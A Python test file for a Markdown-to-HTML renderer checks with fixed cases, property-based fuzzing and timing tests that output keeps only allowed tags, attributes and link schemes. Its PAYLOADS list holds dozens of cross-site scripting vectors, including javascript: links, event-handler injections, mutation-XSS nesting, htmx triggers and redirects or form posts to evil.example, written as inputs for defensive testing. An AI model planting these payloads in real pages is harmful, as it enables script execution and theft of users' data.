"""Words of residents: formatted a little, and never able to run, load or pretend anything."""

import html
import re
from time import process_time

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st

from web.markdown import render

ALLOWED = {
    "p", "br", "strong", "em", "a", "ul", "ol", "li", "blockquote", "code", "pre", "hr", "h4", "h5", "h6"
}  # fmt: skip
# What has got through cleaners and Markdown readers elsewhere, one of each family.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></p><style><img src onerror=alert(1)></style></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<div hx-get=/keluar hx-trigger=load>x</div>",
    "<div data-hx-post=/keluar data-hx-trigger=load>x</div>",
    "<form action=//evil.example><input name=pin></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>body{display:none}</style>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](https://a.example/\"onmouseover=alert(1)//)",
    "[x](<https://a.example/\" onclick=\"alert(1)>)",
    "[x](https://a.example 'title\" onclick=\"alert(1)')",
    "![x](https://evil.example/count.gif)",
    "![x\" onerror=\"alert(1)](x)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html onclick=alert(1)\nx\n```",
    "# <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "1. <iframe src=//evil.example>",
    "**<b onmouseover=alert(1)>x</b>**",
    "a\x00<scr\x00ipt>alert(1)</script>",
    "\u202e<script>",
    "{{7*7}} %(x)s ${7*7} {% raw %}",
    "</p></div></main><h1>Keluar</h1>",
)  # fmt: skip


def check(text):
    """Parse what came out as a browser would, and hold every tag and attribute to the list."""
    made = render(text)
    tree = html5lib.parseFragment(str(made), namespaceHTMLElements=False)
    for node in tree.iter():
        if node is tree or not isinstance(node.tag, str):
            continue
        assert node.tag in ALLOWED, made
        names = {"a": {"href", "rel"}, "ol": {"start"}}.get(node.tag, set())
        assert set(node.attrib) <= names, made
        if node.tag == "a" and "href" in node.attrib:
            assert set(node.attrib["rel"].split()) == {"nofollow", "ugc", "noopener"}
            scheme = re.match(r"\s*([a-zA-Z][\w+.-]*):", node.attrib["href"])
            assert scheme is None or scheme[1].lower() in {"http", "https", "mailto", "tel"}, made
    return made


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "wrap", ["{}", "# {}", "> {}", "* {}", "**{}**", "[{}](/x)", "a\n\n{}\n\nb"]
)
def test_nothing_runs(payload, wrap):
    check(wrap.replace("{}", payload))


PIECES = st.sampled_from(
    [*PAYLOADS, "[", "](", ")", "![", "<", ">", "`", "```", "*", "_", "\n", "\n\n", "> ", "- ", "1. ",
     "# ", "&", "&lt;", '"', "'", "\\", ":", "javascript:", "//", "http://x", " ", "a", "\t", "é", "\u202e"]
)  # fmt: skip


@given(st.lists(PIECES, max_size=12).map("".join))
def test_nothing_runs_however_it_is_put_together(text):
    check(text)


@given(st.text(max_size=300))
def test_any_text_at_all(text):
    check(text)


@given(st.text(alphabet="abc xyz", min_size=1, max_size=80))
def test_words_without_signs_are_only_put_into_a_paragraph(text):
    words = " ".join(text.split())
    bare = re.sub(r"</?p>\n?", "", str(render(words)))
    assert html.unescape(bare) == words


def test_what_people_write_looks_as_they_meant_it():
    assert render("Satu\ndua") == "<p>Satu<br>\ndua</p>\n"
    assert render("**tebal** dan *miring*") == "<p><strong>tebal</strong> dan <em>miring</em></p>\n"
    assert render("- pasir\n- semen") == "<ul>\n<li>pasir</li>\n<li>semen</li>\n</ul>\n"
    assert 'start="3"' in render("3. tiga")
    assert "&lt;5 km" in render("jarak <5 km")


def test_headings_stay_below_those_of_the_page():
    assert render("# Judul") == "<h4>Judul</h4>\n"
    assert render("###### Judul") == "<h6>Judul</h6>\n"
    assert render("Judul\n=====") == "<h4>Judul</h4>\n"


def test_links_lend_nobody_our_name():
    made = render("[aturan](https://desa.example/a?b=1&c=2)")
    assert made == (
        '<p><a href="https://desa.example/a?b=1&amp;c=2" rel="nofollow ugc noopener">aturan</a></p>\n'
    )
    assert 'href="/m/M-2026-001"' in render("[urusan lain](/m/M-2026-001)")


def test_a_picture_is_its_description():
    assert render("![pipa bocor](https://evil.example/x.png)") == "<p>pipa bocor</p>\n"


SLOW = (
    "[",
    "![",
    "*a ",
    "**a ",
    "_a_b",
    ">",
    "`a",
    "[a](",
    "[](",
    "- ",
    "<a",
    "[a](<",
    "*_",
    "a**b",
    "1)\n",
)


@pytest.mark.parametrize("piece", SLOW)
def test_no_text_holds_the_server_up(piece):
    text = piece * (4_000 // len(piece))
    render.cache_clear()
    began = process_time()
    render(text)
    assert process_time() - began < 0.25
